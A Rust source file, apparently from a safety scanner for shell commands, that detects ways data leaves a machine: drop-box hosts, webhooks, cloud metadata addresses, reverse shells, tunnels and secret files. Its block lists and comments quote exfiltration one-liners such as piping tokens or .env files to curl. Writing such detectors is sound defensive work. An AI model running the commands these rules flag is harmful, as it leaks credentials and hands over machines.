//! Ways out: data leaving, tunnels, reverse shells, and downloads or decoded blobs run by a
//! shell. A host on this machine is no way out.

use super::{Scan, has_flag, host_names, positional};
use crate::catalogue::{self, Class};
use crate::law::rule::RuleId;
use crate::secrets::carries_data;
use crate::shell::{Command, RedirectOp, Via};
use crate::step::Fetched;
use crate::verdict::{Harm, Risk};
use crate::wish::{Act, Name, Wish};
use marks::{Mark, Marks};

mod api;
mod marks;
mod sends;
mod serve;

/// Hosts that exist to receive anonymous uploads or requests: whatever goes there is public
/// or the attacker's. Matched on the host and every parent domain.
#[rustfmt::skip]
const DROP_BOXES: &[&str] = &[
    "0x0.st", "anonfiles.com", "bashupload.com", "beeceptor.com", "burpcollaborator.net", "catbox.moe",
    "controlc.com", "dpaste.com", "dpaste.org", "file.io", "filebin.net", "ghostbin.co", "gofile.io",
    "hastebin.com", "hookbin.com", "interact.sh", "ix.io", "litterbox.catbox.moe", "ngrok-free.app",
    "ngrok.app", "ngrok.io", "oast.fun", "oast.live", "oast.me", "oast.online", "oast.pro", "oast.site",
    "paste.ee", "paste.rs", "pastebin.com", "pastebin.pl", "pipedream.net", "postb.in", "requestbin.com",
    "requestbin.net", "requestcatcher.com", "rentry.co", "sprunge.us", "temp.sh", "termbin.com",
    "transfer.sh", "trycloudflare.com", "webhook.site", "pastes.dev", "envs.sh", "oshi.at", "uguu.se",
];

/// Programs of the catalogue's decoders that decode only when told to, and the flags that
/// tell them (`base64 -d`); every other decoder (`zcat`, `uudecode`, `rev`) always does.
const DECODES_WHEN: &[(&str, &[&str])] = &[
    ("base32", &["-d", "--decode"]),
    ("base64", &["-d", "--decode", "-D", "-di", "-id"]),
    ("basenc", &["-d", "--decode", "-di", "-id"]),
];

/// Compressors that give back what they packed when told to decompress (`gzip -dc`,
/// `xz --decompress --stdout`): a blob nobody can read, as `zcat`'s.
const UNPACKS_WHEN_TOLD: &[&str] = &[
    "brotli", "bzip2", "gzip", "lz4", "lzip", "lzma", "lzop", "pigz", "pixz", "xz", "zstd",
];

/// Programs and files whose output is every setting of the environment or the project's secrets.
const ENV_DUMPERS: &[&str] = &["env", "printenv", "set", "export", "declare"];

/// A host on this machine: no way out.
pub(crate) fn is_local(host: &str) -> bool {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    host == "localhost"
        || host.ends_with(".localhost")
        || host.starts_with("127.")
        || host == "::1"
        || host == "0.0.0.0"
        || host == "host.docker.internal"
}

pub(crate) fn is_drop_box(host: &str) -> bool {
    DROP_BOXES.iter().any(|dropbox| {
        host.strip_suffix(dropbox)
            .is_some_and(|head| head.is_empty() || head.ends_with('.'))
    }) || WEBHOOKS.iter().any(|(_, place)| host.ends_with(place))
}

/// Webhooks whose address is all it takes to post (whoever made one reads what reaches it):
/// the service's host, and the path that makes it a webhook.
const WEBHOOKS: &[(&str, &str)] = &[
    ("discord.com", "discord.com/api/webhooks"),
    ("discordapp.com", "discordapp.com/api/webhooks"),
    ("hooks.slack.com", "hooks.slack.com/services"),
];

/// Where a URL goes, as the drop-box list reads it: its host, or for a webhook its host and
/// path (`discord.com/api/webhooks`), since the host alone is a whole service.
pub(crate) fn url_place(url: &str) -> Option<String> {
    let host = url_host(url)?;
    let after_host = url
        .split_once("://")
        .map_or(url, |(_, rest)| rest)
        .split_once('/')
        .map_or("", |(_, path)| path);
    for (service, place) in WEBHOOKS {
        let path = place.strip_prefix(service).unwrap_or("");
        let is_service = host
            .strip_suffix(service)
            .is_some_and(|head| head.is_empty() || head.ends_with('.'));
        if is_service && format!("/{after_host}").starts_with(path) {
            return Some(format!("{host}{path}"));
        }
    }
    Some(host)
}

/// The cloud's instance metadata services: a GET there hands out the machine's credentials.
const METADATA: &[&str] = &[
    "169.254.169.254",
    "169.254.170.2",
    "metadata.google.internal",
    "metadata.goog",
    "100.100.100.200",
    "[fd00:ec2::254]",
];

/// A read of the cloud's instance metadata: the machine's credentials, like a key file.
pub(crate) fn metadata_risk(host: &str) -> Option<Risk> {
    METADATA.contains(&host).then(|| {
        Risk::new(
            RuleId::SecretsMetadata,
            Harm::Severe,
            true,
            format!("reach {host}, the cloud's instance metadata, which hands out this machine's credentials"),
        )
        .way_out()
    })
}

/// The host of a URL or `user@host:path` (`https://a.b/c` → `a.b`).
pub(crate) fn url_host(text: &str) -> Option<String> {
    let text = text.trim_matches(|c| c == '"' || c == '\'');
    let rest = if let Some((_, rest)) = text.split_once("://") {
        rest
    } else if looks_like_host(text) {
        text
    } else {
        return None;
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let authority = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    let host = if authority.starts_with('[') {
        authority
            .split(']')
            .next()
            .map(|h| format!("{h}]"))
            .unwrap_or_default()
    } else {
        authority.split(':').next().unwrap_or("").to_string()
    };
    (!host.is_empty()).then(|| host.to_lowercase())
}

/// `example.com/x`, `api.example.com:443`: a bare host curl would take as one.
fn looks_like_host(text: &str) -> bool {
    let head = text.split(['/', ':', '?']).next().unwrap_or("");
    let head = head.rsplit_once('@').map_or(head, |(_, h)| h);
    head == "localhost"
        || (head.contains('.')
            && !head.starts_with('.')
            && head
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
            && head
                .rsplit('.')
                .next()
                .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic())))
        || head.split('.').count() == 4 && head.split('.').all(|p| p.parse::<u8>().is_ok())
}

/// `host:path` or `user@host:path` as scp and rsync write a remote end.
fn remote_end(word: &str) -> Option<String> {
    if word.contains("://") {
        return url_host(word);
    }
    let (head, _) = word.split_once(':')?;
    if head.is_empty() || head.contains('/') {
        return None;
    }
    let host = head.rsplit_once('@').map_or(head, |(_, h)| h);
    Some(host.to_lowercase())
}

pub(super) fn send(scan: &mut Scan<'_>, host: &str, how: &str) {
    send_to(scan, host, Name::AnyOf(host_names(host)), how);
}

/// A secret of the environment (`$AWS_SECRET_ACCESS_KEY`) sent to `host` as data: severe, so
/// it asks before reading; the person naming the host lifts it (a token asked of an auth
/// server: `-d client_secret=$CLIENT_SECRET`).
pub(super) fn secret_leaves(scan: &mut Scan<'_>, name: &str, host: &str) {
    if is_local(host) {
        return;
    }
    scan.add(
        Risk::new(
            RuleId::EgressSend,
            Harm::Severe,
            true,
            format!("send ${name}, a secret of the environment, to {host}"),
        )
        .way_out()
        .wish(Wish::new(Act::Send).naming(Name::AnyOf(host_names(host)))),
    );
}

/// A secret a program printed (`gh auth token`, `vault kv get -field=password …`) piped
/// into a way out to a host (`| curl -d @- https://x/`, `| nc host 80`): the secret leaves
/// for that host, as `echo $GITHUB_TOKEN | curl -d @- …` sends the variable.
pub(super) fn printed_secret_leaves(cmd: &Command, scan: &mut Scan<'_>) {
    let host = scan
        .pipeline(cmd.pipeline)
        .filter(|c| c.stage > cmd.stage && c.parent == cmd.parent && is_way_out(c))
        .find_map(|c| c.args().iter().find_map(|a| url_host(a)));
    let Some(host) = host else {
        return;
    };
    if is_local(&host) {
        return;
    }
    let what = std::iter::once(cmd.program())
        .chain(cmd.args().iter().take(2).map(String::as_str))
        .collect::<Vec<_>>()
        .join(" ");
    scan.add(
        Risk::new(
            RuleId::EgressSend,
            Harm::Severe,
            true,
            format!("send the secret `{what}` prints to {host}"),
        )
        .way_out()
        .wish(Wish::new(Act::Send).naming(Name::AnyOf(host_names(&host)))),
    );
}

/// The word of an address's path that names moving money (`/v1/charges`, `/payouts`,
/// `/api/checkout`, `/payment_intents`), as an app's tool named so pays (`app/words.rs`'s
/// `PAYS`, one word of its English row).
fn pays_at(url: &str) -> Option<String> {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let (_, path) = rest.split_once('/')?;
    let path = path.split(['?', '#']).next().unwrap_or("");
    let words = crate::law::app::words::PAYS
        .iter()
        .filter(|(lang, _)| *lang == crate::intent::words::Lang::En)
        .flat_map(|(_, words)| words.iter())
        .filter(|w| !w.contains(' '));
    let words: Vec<&str> = words.copied().collect();
    // A collection's name is the plural (`charges`, `payouts`, `orders`).
    path.split(|c: char| !c.is_ascii_alphanumeric())
        .map(str::to_ascii_lowercase)
        .find(|part| {
            words.contains(&part.as_str())
                || part
                    .strip_suffix('s')
                    .is_some_and(|one| words.contains(&one))
        })
}

/// A request that sends to an address of moving money (`curl -d … https://api.x/v1/charges`):
/// money, which no words lift. This machine's own server is none.
pub(super) fn money(scan: &mut Scan<'_>, host: &str, url: &str) {
    if is_local(host) {
        return;
    }
    let Some(word) = pays_at(url) else {
        return;
    };
    scan.add(
        Risk::new(
            RuleId::WordsPays,
            Harm::Severe,
            true,
            format!("send a request to {host} whose address names moving money ({word}), which no words lift"),
        )
        .never()
        .way_out(),
    );
}

/// A send to `host`, lifted by naming one of `names`: a drop box is severe.
fn send_to(scan: &mut Scan<'_>, host: &str, names: Name, how: &str) {
    if is_local(host) {
        return;
    }
    if is_drop_box(host) {
        scan.add(
            Risk::new(
                RuleId::EgressDropbox,
                Harm::Severe,
                true,
                format!("{how} to {host}, a drop box anyone can read"),
            )
            .way_out()
            .wish(Wish::new(Act::Send).naming(names)),
        );
    } else {
        scan.add(
            Risk::new(
                RuleId::EgressSend,
                Harm::Moderate,
                true,
                format!("{how} to {host}"),
            )
            .way_out()
            .wish(Wish::new(Act::Send).naming(names)),
        );
    }
}

/// A file that holds keys or the project's secrets, as a path word: one by its name, or
/// one the line itself filled from them (`env > /tmp/e && curl -F f=@/tmp/e …`, `cp .env
/// /tmp/x; curl -T /tmp/x …`, `tar czf /tmp/h.tgz ~ && curl -T /tmp/h.tgz …`).
fn secret_file(word: &str, scan: &Scan<'_>) -> Option<&'static str> {
    let path = word.trim_start_matches('@').trim_start_matches('<');
    secret_by_name(path, scan).or_else(|| filled_from_secret(path, scan))
}

/// The kind of secret a file the line writes holds, when what the line puts there is
/// one: the environment printed into it, or a secret file's contents (cat, cp, an archive).
/// Looked up in what [`filled_index`] gathered once for the line.
fn filled_from_secret(path: &str, scan: &Scan<'_>) -> Option<&'static str> {
    let path = path.trim_start_matches("./");
    scan.filled
        .iter()
        .find(|(target, _)| target == path)
        .map(|(_, kind)| *kind)
}

/// Every file a line writes with a secret in it, in the line's order, its name as written
/// (`./` aside) and the kind: what a command prints into it (`> f`, `>> f`) after the
/// environment was printed at or before its stage (`printenv | sort > env.txt`), or what it
/// copies, moves or archives there from a file that holds keys or the project's secrets by
/// its name (`cat ~/.ssh/id_rsa > k`, `cp .env x`, `tar czf a.tgz .env`), each named in the
/// folder its command runs in. Gathered once, so that every word asking after it costs a
/// look-up, not a walk of the line (a line of thousands of redirects stays linear).
pub(super) fn filled_index(
    line: &crate::shell::Line,
    cwds: &[String],
    work: &str,
    home: &str,
) -> Vec<(String, &'static str)> {
    let prints_env = |c: &Command| {
        super::words::SHOWS_ENVIRONMENT.contains(&c.program())
            && c.args().iter().all(|a| a.starts_with('-'))
    };
    // The first stage printing the environment in each pipeline, by its holder.
    let mut env_from: std::collections::HashMap<(usize, Option<usize>), usize> =
        std::collections::HashMap::new();
    for c in line.commands.iter().filter(|c| prints_env(c)) {
        let first = env_from.entry((c.pipeline, c.parent)).or_insert(c.stage);
        *first = (*first).min(c.stage);
    }
    let mut out = Vec::new();
    for (index, cmd) in line.commands.iter().enumerate() {
        let args = cmd.args();
        let mut targets: Vec<(&str, bool)> = cmd
            .redirects
            .iter()
            .filter(|r| {
                matches!(r.op, RedirectOp::Write | RedirectOp::Append)
                    && matches!(r.fd, None | Some(1))
            })
            .map(|r| (r.target.as_str(), true))
            .collect();
        if matches!(cmd.program(), "cp" | "mv" | "install")
            && let Some(last) = positional(args).last()
        {
            targets.push((last, false));
        }
        let archive = super::paths::archive_of(cmd);
        if let Some(archive) = &archive {
            targets.push((archive.as_str(), false));
        }
        if targets.is_empty() {
            continue;
        }
        let place = super::Place {
            cwd: cwds.get(index).map_or(work, String::as_str),
            work,
            home,
        };
        let env = env_from
            .get(&(cmd.pipeline, cmd.parent))
            .is_some_and(|first| *first <= cmd.stage);
        for (target, into) in targets {
            let target = target.trim_start_matches("./");
            let kind = if into && env {
                Some("env")
            } else {
                args.iter()
                    .filter(|a| a.trim_start_matches("./") != target)
                    .find_map(|a| secret_by_name_at(a.trim_start_matches('@'), &place))
            };
            if let Some(kind) = kind {
                out.push((target.to_string(), kind));
            }
        }
    }
    out
}

/// A file that holds keys or the project's secrets by its name.
fn secret_by_name(path: &str, scan: &Scan<'_>) -> Option<&'static str> {
    secret_by_name_at(path, &scan.place)
}

/// [`secret_by_name`], named in the folder `place` says.
fn secret_by_name_at(path: &str, place: &super::Place<'_>) -> Option<&'static str> {
    // `$HOME/.ssh/$f`: a file of the key folder, whichever one it is.
    let abs = place.resolve_under_prefix(path)?;
    // The environment first: another process's (`/proc/1/environ`) is a key file to read
    // too, and what leaves is an environment.
    if holds_the_environment(&abs) {
        Some("env")
    } else if super::paths::is_key_at(&abs, place) || super::paths::holds_keys(&abs, place) {
        Some("keys")
    } else {
        None
    }
}

/// A file that holds the project's secrets or every setting of an environment, by its path:
/// a `.env` (not its `.example` or `.sample`), a process's environment as the kernel shows it
/// (`/proc/self/environ`, `/proc/*/environ`), or Terraform's state, which holds every secret
/// its resources were made with in plain text (`terraform.tfstate`, its `.backup`).
pub(crate) fn holds_the_environment(abs: &str) -> bool {
    (super::paths::basename_of(abs).starts_with(".env")
        && !abs.ends_with(".example")
        && !abs.ends_with(".sample"))
        || (abs.starts_with("/proc/") && abs.ends_with("/environ"))
        || abs.ends_with(".tfstate")
        || abs.ends_with(".tfstate.backup")
}

pub(super) fn env_leaves(scan: &mut Scan<'_>, how: &str) {
    scan.add(
        Risk::new(RuleId::EgressEnv, Harm::Severe, true, format!("{how}: the project's secrets or every setting of the environment would leave this machine"))
            .never()
            .way_out(),
    );
}

pub(super) fn key_leaves(scan: &mut Scan<'_>, how: &str) {
    scan.add(
        Risk::new(
            RuleId::SecretsKeyRead,
            Harm::Severe,
            true,
            format!("{how}: private keys or credentials"),
        )
        .never()
        .way_out(),
    );
}

/// A program's name as the catalogue resolves it (`nc.exe` → `nc`, `python3.11` → `python`).
fn bare(program: &str) -> String {
    catalogue::name(program)
}

/// Runs shell text from its input or `-c` (`sh`, `pwsh`, `source`).
pub(super) fn is_shell(program: &str) -> bool {
    catalogue::program(program)
        .is_some_and(|found| found.is(Class::Shell) || found.is(Class::Source))
}

/// Reads code from its standard input when given no file (`python3`, `node`, `perl`).
pub(super) fn reads_code(program: &str) -> bool {
    catalogue::program(program)
        .and_then(|p| p.code)
        .is_some_and(|code| code.stdin)
}

pub(super) fn is_downloader(program: &str) -> bool {
    catalogue::is(program, Class::Downloader)
}

/// A word that names a shell (`/bin/sh`, `sh -i`, `cmd`, `powershell.exe`).
fn names_shell(word: &str) -> bool {
    word.split_whitespace().next().is_some_and(|first| {
        let name = bare(first);
        catalogue::is(&name, Class::Shell)
    })
}

fn relay(program: &str, cmd: &Command, scan: &mut Scan<'_>) {
    scan.network = true;
    let args = cmd.args();
    let runs_shell = args.iter().any(|a| names_shell(a))
        || args.windows(2).any(|pair| {
            matches!(
                pair[0].as_str(),
                "-e" | "--exec" | "-c" | "-s" | "--sh-exec"
            ) && !pair[1].starts_with('-')
        });
    let listens = args.iter().any(|a| a == "listen" || a == "--listen")
        || has_flag(args, Some('l'), &[])
        || program == "socket" && has_flag(args, Some('s'), &[]);
    if runs_shell {
        reverse(
            scan,
            &format!("{program} wiring a shell to a network connection"),
        );
    } else if listens {
        scan.add(
            Risk::new(
                RuleId::TunnelOpen,
                Harm::Severe,
                true,
                format!("listen for connections from the network ({program})"),
            )
            .way_out()
            .wish(Wish::new(Act::Public)),
        );
    } else if let Some(host) = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .find_map(|a| url_host(a))
    {
        // A relay connecting out is a raw connection, as netcat's; a file given it on its
        // input (`websocat wss://x < .env`) is sent.
        for redirect in &cmd.redirects {
            if redirect.op == RedirectOp::Read {
                file_leaves(scan, &redirect.target, &host);
            }
        }
        send(scan, &host, &format!("open a raw connection ({program})"));
    }
}

pub(super) fn judge(cmd: &Command, scan: &mut Scan<'_>) {
    let program = cmd.program();
    let program = bare(program);
    let args = cmd.args();
    // The catalogue's line for the name, looked up once for the classes asked below.
    let found = catalogue::program(&program);
    for redirect in &cmd.redirects {
        if redirect.target.starts_with("/dev/tcp/") || redirect.target.starts_with("/dev/udp/") {
            scan.network = true;
            if is_shell(&program)
                || program == "exec"
                || cmd.words.is_empty()
                || redirect.op == RedirectOp::Dup
                || cmd.redirects.len() > 1
            {
                reverse(scan, "a shell wired to a network socket (/dev/tcp)");
            } else {
                let host = redirect.target.split('/').nth(3).unwrap_or("").to_string();
                send(scan, &host, "send data over a raw socket");
            }
        }
    }
    match program.as_str() {
        "curl" => curl(cmd, scan),
        "wget" => wget(args, scan),
        "http" | "https" | "xh" | "xhs" => httpie(args, scan),
        // curlie takes curl's options and HTTPie's items: read as curl, then, when curl's
        // reading found nothing, as HTTPie.
        "curlie" => {
            let before = scan.risks.len();
            curl(cmd, scan);
            if scan.risks.len() == before {
                httpie(args, scan);
            }
        }
        // `rsync -n`: a dry run lists what it would send and sends nothing.
        "rsync" if super::has_flag(args, Some('n'), &["dry-run"]) => {}
        "scp" | "rsync" => copy_out(&program, args, scan),
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => netcat(cmd, scan),
        "socat" => socat(args, scan),
        // mosh takes ssh's destination and command: a session or a run there.
        // The remote shells before ssh speak as it does: a session, or a command run there.
        "ssh" | "mosh" | "rlogin" | "rsh" | "rexec" => ssh(cmd, scan),
        // autossh takes ssh's words after its own `-M PORT` (its monitoring port).
        "autossh" => {
            let mut words = cmd.words.clone();
            if let Some(at) = words.iter().position(|w| w == "-M") {
                words.drain(at..(at + 2).min(words.len()));
            }
            words.retain(|w| !w.starts_with("-M"));
            if let Some(first) = words.first_mut() {
                *first = "ssh".to_string();
            }
            ssh(&cmd.with_words(words), scan);
        }
        "openssl" if args.first().is_some_and(|a| a == "s_server") => {
            scan.network = true;
            scan.add(
                Risk::new(
                    RuleId::TunnelOpen,
                    Harm::Severe,
                    true,
                    "listen for connections from the network (openssl s_server)".to_string(),
                )
                .way_out()
                .wish(Wish::new(Act::Public)),
            );
        }
        p if found.is_some_and(|f| f.is(Class::Relay)) => relay(p, cmd, scan),
        // `gh api -X DELETE /repos/o/r`, `glab api …`: a forge's API, in the person's name.
        "gh" | "glab" if args.first().is_some_and(|a| a == "api") => {
            api::judge(&program, args, scan);
        }
        "code"
            if args.first().is_some_and(|a| a == "tunnel")
                && !args.iter().any(|a| {
                    matches!(
                        a.as_str(),
                        "status" | "--help" | "-h" | "user" | "kill" | "prune" | "rename"
                    )
                }) =>
        {
            scan.network = true;
            scan.add(
                Risk::new(
                    RuleId::TunnelOpen,
                    Harm::Severe,
                    true,
                    "open a tunnel (code tunnel) that exposes this machine to the internet"
                        .to_string(),
                )
                .way_out()
                .wish(Wish::new(Act::Public)),
            );
        }
        "ztcp" => {
            scan.network = true;
            reverse(scan, "a zsh TCP connection (ztcp)");
        }
        _ if (catalogue::is(&program, Class::RemoteAccess) && shares_machine(&program, args))
            || signs_in_off(&program, args) =>
        {
            scan.network = true;
            scan.add(
                Risk::new(
                    RuleId::RemoteAccess,
                    Harm::Severe,
                    true,
                    format!("hand this machine's shell or desktop ({program}) to whoever connects"),
                )
                .way_out()
                .wish(Wish::new(Act::Public)),
            );
        }
        _ if catalogue::is(&program, Class::Session) => remote_session(&program, args, scan),
        // Another program's `ssh` to a host it names (`wezterm ssh alice@host`, `kitty +kitten
        // ssh host.example.com`, `tsh ssh root@node`): the session ssh opens. A machine it
        // keeps itself (`vagrant ssh`, `podman machine ssh vm`) names no host.
        _ if let Some(rest) = ssh_to_host(args)
            && !catalogue::is(&program, Class::Prints)
            && !catalogue::is(&program, Class::ReadOnly) =>
        {
            remote_session("ssh", rest, scan);
        }
        _ if catalogue::is(&program, Class::Tunnel) && tunnel_opens(&program, args) => {
            scan.network = true;
            scan.add(
                Risk::new(
                    RuleId::TunnelOpen,
                    Harm::Severe,
                    true,
                    format!("open a tunnel ({program}) that exposes this machine to the internet"),
                )
                .way_out()
                .wish(Wish::new(Act::Public)),
            );
        }
        // `kubectl cp FILE [NS/]POD:PATH`: files sent into a pod of the cluster, another
        // machine (its way back, `POD:PATH FILE`, is a read the key rules judge).
        "kubectl" | "oc" if positional(args).first() == Some(&"cp") => {
            let words = positional(args);
            let into_pod = |w: &str| {
                w.split_once(':')
                    .is_some_and(|(pod, _)| !pod.is_empty() && !pod.starts_with(['/', '.', '~']))
            };
            if let Some((dest, sources)) = words.get(1..).and_then(<[&str]>::split_last)
                && into_pod(dest)
                && !sources.iter().any(|s| into_pod(s))
            {
                let pod = dest.split_once(':').map_or(*dest, |(pod, _)| pod);
                let pod = pod.rsplit('/').next().unwrap_or(pod).to_string();
                scan.network = true;
                for source in sources {
                    file_leaves(scan, source, &format!("the pod {pod}"));
                }
                scan.add(
                    Risk::new(
                        RuleId::EgressSend,
                        Harm::Moderate,
                        true,
                        format!("copy files into the pod {pod}, on the cluster"),
                    )
                    .way_out()
                    .wish(Wish::new(Act::Send).naming(Name::one(&pod))),
                );
            }
        }
        "aws"
            if args.first().is_some_and(|a| a == "s3")
                && matches!(args.get(1).map(String::as_str), Some("cp" | "sync" | "mv")) =>
        {
            // `s3 cp SOURCE DEST`: the destination is the fourth word, before the values of
            // any options (`--exclude path/*`, `--acl private`).
            let words = positional(args);
            let dest = words.get(3).copied();
            // `--dryrun` lists what it would copy and copies nothing.
            let dry = args.iter().any(|a| a == "--dryrun");
            if !dry && dest.is_some_and(|dest| dest.starts_with("s3://")) {
                scan.network = true;
                let bucket = dest
                    .and_then(|d| d.trim_start_matches("s3://").split('/').next())
                    .unwrap_or("")
                    .to_string();
                if words.iter().any(|w| secret_file(w, scan).is_some()) {
                    key_leaves(scan, "copy secrets to a bucket");
                }
                scan.add(
                    Risk::new(
                        RuleId::EgressSend,
                        Harm::Moderate,
                        true,
                        format!("copy files to the bucket {bucket}"),
                    )
                    .way_out()
                    .wish(Wish::new(Act::Send).naming(Name::one(&bucket))),
                );
            }
        }
        _ => {}
    }
    sends::judge(cmd, scan);
    serve::judge(cmd, scan);
    if matches!(program.as_str(), "echo" | "printf") {
        dropped_code(cmd, scan);
    }
    if found.is_some_and(|f| f.is(Class::Interpreter)) {
        interpreter_code(cmd, scan);
    }
}

/// Does a program of the `RemoteAccess` class share the machine as run? Not for help, its
/// version, a subcommand that only lists or ends sessions, or a listener told to stay on
/// loopback (`ttyd -i lo`, `gotty --address 127.0.0.1`, `x11vnc -localhost`).
fn shares_machine(program: &str, args: &[String]) -> bool {
    let asks_only = args.iter().any(|a| {
        matches!(
            a.as_str(),
            "-h" | "--help" | "help" | "-V" | "--version" | "version" | "-version"
        )
    });
    if asks_only || listens_on_loopback(args) {
        return false;
    }
    let first = positional(args).first().copied().unwrap_or("");
    match program {
        // `upterm host` shares; `upterm session list`, `upterm proxy` do not.
        "upterm" => first == "host",
        // tmate's own commands on a session already shared (`tmate -S s display -p …`,
        // `tmate kill-server`, `tmate show-messages`) share nothing new.
        "tmate" => !args.iter().any(|a| {
            matches!(
                a.as_str(),
                "display"
                    | "display-message"
                    | "kill-server"
                    | "kill-session"
                    | "show-messages"
                    | "wait"
                    | "list-sessions"
                    | "ls"
            )
        }),
        _ => true,
    }
}

/// An option that keeps a listener on this machine's loopback.
fn listens_on_loopback(args: &[String]) -> bool {
    let loopback = |v: &str| {
        let host = v.rsplit_once(':').map_or(v, |(h, _)| h);
        host == "lo" || (is_local(host) && host != "0.0.0.0")
    };
    args.iter().enumerate().any(|(at, a)| {
        if matches!(a.as_str(), "-localhost" | "--localhost") {
            return true;
        }
        let (name, value) = match a.split_once('=') {
            Some((name, value)) => (name, Some(value)),
            None => (a.as_str(), args.get(at + 1).map(String::as_str)),
        };
        matches!(
            name,
            "-i" | "--interface"
                | "-a"
                | "--address"
                | "--host"
                | "--bind"
                | "--bind-addr"
                | "--listen"
                | "-listen"
        ) && value.is_some_and(loopback)
    })
}

/// A server that runs code for whoever reaches it, on a network address with its sign-in
/// turned off or set by the line itself: a notebook (`jupyter notebook --ip 0.0.0.0 --NotebookApp.token=`), an editor
/// (`code-server --bind-addr 0.0.0.0:8080 --auth none`), or the container engine's API,
/// the administrator's in all but name (`dockerd -H tcp://0.0.0.0:2375`).
fn signs_in_off(program: &str, args: &[String]) -> bool {
    let value_of = |names: &[&str]| -> Option<String> {
        args.iter()
            .enumerate()
            .find_map(|(at, a)| match a.split_once('=') {
                Some((name, value)) if names.contains(&name) => Some(value.to_string()),
                None if names.contains(&a.as_str()) => args.get(at + 1).cloned(),
                _ => None,
            })
    };
    let networked = |addr: Option<String>| {
        addr.is_some_and(|addr| {
            let host = addr.rsplit_once(':').map_or(addr.as_str(), |(h, _)| h);
            let host = host.trim_start_matches('[').trim_end_matches(']');
            host.is_empty() || host == "*" || host == "0.0.0.0" || host == "::" || !is_local(host)
        })
    };
    match program {
        "jupyter" | "jupyter-notebook" | "jupyter-lab" | "jupyter-server" => {
            // A token turned off, or one the line itself sets: whoever wrote the line (a
            // page, as well as the person) knows it. Jupyter's own is random and unprinted.
            let token_known = args.iter().any(|a| {
                a.split_once('=').is_some_and(|(name, _)| {
                    name.ends_with(".token") || name.ends_with(".password")
                })
            });
            token_known && networked(value_of(&["--ip", "--ServerApp.ip", "--NotebookApp.ip"]))
        }
        "code-server" | "openvscode-server" => {
            let auth_off = value_of(&["--auth"]).as_deref() == Some("none")
                || args.iter().any(|a| a == "--without-connection-token");
            auth_off && networked(value_of(&["--bind-addr", "--host"]))
        }
        "dockerd" => args.iter().enumerate().any(|(at, a)| {
            let value = match a.split_once('=') {
                Some(("-H" | "--host", value)) => Some(value),
                _ if a == "-H" || a == "--host" => args.get(at + 1).map(String::as_str),
                _ => None,
            };
            value
                .and_then(|v| v.strip_prefix("tcp://"))
                .is_some_and(|addr| networked(Some(addr.to_string())))
        }),
        _ => false,
    }
}

/// What `certutil -urlcache … URL FILE` and `bitsadmin /transfer NAME … URL FILE` save, and
/// the host they fetch it from: the last word after the address (Windows' paths by their
/// last name, `\\` or `/`).
/// The Windows programs [`windows_download`] reads.
const WINDOWS_FETCHERS: [&str; 2] = ["bitsadmin", "certutil"];

/// Could `text` save a file [`saves`] names: only a redirect of an output (`>`), `tee`, a
/// downloader or one of Windows' own does. A cheap look, made of what `saves` reads, before
/// the line is read for what it fetched: a decoder writes a file only through `>` or `tee`.
pub(super) fn may_save(text: &str) -> bool {
    text.contains('>')
        || text
            .split(|c: char| c.is_whitespace() || "|;&()`$<\"'".contains(c))
            .filter(|word| !word.is_empty() && !word.starts_with('-'))
            .any(|word| {
                let name = catalogue::name(word);
                name == "tee" || WINDOWS_FETCHERS.contains(&name.as_ref()) || is_downloader(word)
            })
}

fn windows_download(program: &str, args: &[String]) -> Option<(String, String)> {
    let flag = |name: &str| {
        args.iter()
            .any(|a| a.trim_start_matches(['-', '/']).eq_ignore_ascii_case(name))
    };
    let downloads = match program {
        "certutil" => flag("urlcache"),
        "bitsadmin" => flag("transfer") || flag("addfile"),
        _ => false,
    };
    if !downloads {
        return None;
    }
    let at = args.iter().position(|a| a.contains("://"))?;
    let host = url_host(args.get(at)?)?;
    let output = args
        .get(at + 1..)?
        .iter()
        .rfind(|a| !a.starts_with(['-', '/']) || a.contains('\\'))?;
    let name = output.rsplit(['\\', '/']).next().unwrap_or(output);
    Some((name.to_string(), host))
}

fn tunnel_opens(program: &str, args: &[String]) -> bool {
    if args.iter().any(|a| {
        matches!(
            a.as_str(),
            "-h" | "--help" | "help" | "-V" | "--version" | "version"
        )
    }) {
        return false;
    }
    match program {
        "cloudflared" => {
            args.iter().any(|a| a == "tunnel")
                && !args
                    .iter()
                    .any(|a| matches!(a.as_str(), "list" | "info" | "login"))
        }
        "tailscale" => args.iter().any(|a| a == "funnel"),
        // A client's remote forward (`R:…`) or a server that takes them; a share; a host.
        "chisel" => matches!(args.first().map(String::as_str), Some("client" | "server")),
        "zrok" => args.iter().any(|a| a == "share"),
        "inlets" | "inlets-pro" => args.iter().any(|a| a == "client"),
        "devtunnel" => args.iter().any(|a| a == "host"),
        "localxpose" | "loclx" => args.iter().any(|a| a == "tunnel"),
        "frpc" | "rathole" => !args.iter().any(|a| matches!(a.as_str(), "verify" | "-v")),
        "ngrok" => !args.iter().any(|a| {
            matches!(
                a.as_str(),
                "version" | "help" | "config" | "--version" | "update"
            )
        }),
        _ => true,
    }
}

pub(super) fn reverse(scan: &mut Scan<'_>, what: &str) {
    scan.add(
        Risk::new(
            RuleId::ShellReverse,
            Harm::Severe,
            true,
            format!("{what}, which hands control of this machine to someone else"),
        )
        .never()
        .way_out(),
    );
}

/// curl's options that send data, and whether their value may name a file with `@`.
const CURL_DATA: &[&str] = &[
    "-d",
    "--data",
    "--data-ascii",
    "--data-binary",
    "--data-raw",
    "--data-urlencode",
    "--json",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
];
/// curl's options that take a value (so the value is not a URL).
const CURL_VALUED: &[&str] = &[
    "-H",
    "--header",
    "-X",
    "--request",
    "-o",
    "--output",
    "-u",
    "--user",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "-m",
    "--max-time",
    "--connect-timeout",
    "-w",
    "--write-out",
    "-x",
    "--proxy",
    "--retry",
    "-r",
    "--range",
    "--cacert",
    "--cert",
    "--key",
    "-E",
    "-K",
    "--config",
    "--resolve",
    "--url",
    "-C",
    "--limit-rate",
    "--output-dir",
    "-U",
